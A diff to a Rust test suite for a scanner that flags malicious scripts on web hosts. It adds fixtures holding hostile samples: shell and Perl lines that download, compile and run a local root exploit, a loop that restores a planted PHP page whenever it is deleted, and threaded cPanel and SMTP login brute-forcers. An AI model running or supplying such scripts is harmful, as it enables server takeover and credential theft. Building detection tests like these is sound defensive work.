@@ -488,6 +488,10 @@ fn local_root_exploits_are_found() {
     let auto = "#!/usr/bin/perl\nsystem(\"wget www.example.org/hack/exploits/kernel/local-root-exploit-x.c\");\n\
                 system(\"gcc -o x local-root-exploit-x.c\");\nsystem(\"chmod 777 x\");\nsystem(\"./x\");\nsystem(\"id\");\n";
     assert_eq!(whys(auto), [Why::LocalRootExploit]);
+    // Regression: fresh166's `rs.sh` compiles with `g++` and runs the program by a quoted name.
+    let quoted = "#!/bin/bash\ntry_c(){ N=\"$1.cpp\"; B=\"$1\"; wget -q \"$2\" -O \"$N\"; g++ -o \"$B\" \"$N\" && ./\"$B\"; }\n\
+                  try_c cve-2018-18955 \"https://gitlab.example/45886\"\n";
+    assert_eq!(whys(quoted), [Why::LocalRootExploit]);
     // A site's deploy script using sudo, and a scanner's note on a CVE it has no hole for.
     let deploy = "#!/bin/sh\n/usr/bin/sudo systemctl reload php-fpm\n";
     assert_eq!(whys(deploy), []);
@@ -526,6 +530,13 @@ fn a_loop_without_end_putting_a_php_file_back_is_a_watchdog() {
     // The same comparison run once (a deploy step) puts nothing back forever.
     let once = restorer.replace("while true; do", "for i in 1; do");
     assert!(whys(&once).is_empty(), "{:?}", whys(&once));
+    // Regression: fresh162's `restore_esbatu.sh` copies the page back whenever it is gone.
+    let gone = "#!/bin/bash\nT=\"/home/u/public_html/lib/LibraryHandlers.php\"\nB=\"/home/u/backups/L.php\"\n\
+                while true; do\n  if [ ! -f \"$T\" ]; then\n    cp -p \"$B\" \"$T\"\n  fi\n  sleep \"$S\"\ndone\n";
+    assert_eq!(whys(gone), [Why::RewritesFilesForever]);
+    // A loop waiting for a file to appear before it copies a report out.
+    let wait = "#!/bin/sh\nwhile true; do\n  if [ ! -f /tmp/report.csv ]; then sleep 5; continue; fi\n  cp /tmp/report.csv /srv/out/\n  break\ndone\n";
+    assert!(whys(wait).is_empty(), "{:?}", whys(wait));
     // Regression: fresh155's `notic` copies the spam page back whenever it is deleted.
     let watcher = "#!/bin/bash\nf=\"/home/u/public_html/slot/index.php\"\ncp \"$f\" \"${f}_backup\"\n\
                    inotifywait -m -e delete_self --format '%f' \"$f\" |\nwhile read d; do\n  sleep 5\n  cp \"${f}_backup\" \"$f\"\ndone &\n";
@@ -581,11 +592,26 @@ fn harvesters_of_other_sites_env_files_and_the_clouds_credentials_are_found() {
 }
 
 #[test]
-fn a_brute_forcer_of_other_sites_logins_is_a_bot() {
+fn a_brute_forcer_of_other_sites_logins_is_a_password_cracker() {
     let cpanel = "import requests, threading\nclass brute(threading.Thread):\n    def run(self):\n\
                   r = s.post('https://' + url + ':2083/login/?login_only=1', data=d)\n\
                   for l in open(sys.argv[2]).readlines(): q.put(l)\n";
-    assert_eq!(whys(cpanel), [Why::NetworkBot]);
+    assert_eq!(whys(cpanel), [Why::PasswordCracker]);
+    // Regression: fresh161's `cPanel.py`: the login address apart from its ports, the lists
+    // read in comprehensions.
+    let ports = "import requests, concurrent.futures\nports = [2082, 2083]\nep = '/login/?login_only=1'\n\
+                 def go(u, urls, pw):\n    for url in urls:\n        requests.post(f'https://{url}:{ports[1]}{ep}', data={'user': u, 'pass': pw})\n\
+                 with open(sys.argv[1]) as f:\n    urls = [line.strip() for line in f]\n\
+                 with concurrent.futures.ThreadPoolExecutor(max_workers=9) as ex:\n    ex.map(go, users, [urls] * 3, [pw] * 3)\n";
+    assert_eq!(whys(ports), [Why::PasswordCracker]);
+    // Regression: fresh167's SMTP checkers try `host|port|user|password` lines in threads.
+    let smtp = "import smtplib, concurrent.futures\nsmtps = [l.strip() for l in open('smtps.txt').readlines()]\n\
+                def check(s):\n    host, port, user, pw = s.split('|')\n    c = smtplib.SMTP(host, int(port))\n    c.login(user, pw)\n\
+                with concurrent.futures.ThreadPoolExecutor(max_workers=50) as ex:\n    ex.map(check, smtps)\n";
+    assert_eq!(whys(smtp), [Why::PasswordCracker]);
+    // A site's own mail settings tested once.
+    let test = "import smtplib\nhost, user = cfg['host'], cfg['user']\nc = smtplib.SMTP(host, 587)\nc.login(user, cfg['password'])\nc.quit()\n";
+    assert!(whys(test).is_empty(), "{:?}", whys(test));
     // One site's own login checked once: a monitor.
     assert_eq!(
         whys("import requests\nr = requests.get('https://example.org/wp-login.php')\nprint(r.status_code)\n"),
